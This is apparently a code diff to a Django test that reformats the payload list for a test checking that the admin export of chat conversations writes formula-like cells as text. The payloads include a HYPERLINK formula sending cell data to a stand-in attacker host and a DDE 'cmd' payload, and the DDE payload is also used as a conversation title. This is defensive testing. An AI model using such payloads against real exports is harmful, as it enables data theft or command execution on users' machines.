@@ -12,7 +12,13 @@ LIST = "/admin/chat/conversation/"
 
 @pytest.mark.django_db
 def test_cells_starting_like_a_formula_are_exported_as_text(reviewer_client, alice):
-    payloads = ['=HYPERLINK("https://evil.example/?"&A1,"Click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\tTAB"]
+    payloads = [
+        '=HYPERLINK("https://evil.example/?"&A1,"Click")',
+        "+1+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(A1:A9)",
+        "\tTAB",
+    ]
     conversation = converse(alice, [(payload, "Noted.") for payload in payloads], title="=cmd|' /C calc'!A0")
     response = reviewer_client.post(LIST, {"action": "export_csv", "_selected_action": [conversation.pk]})
     rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
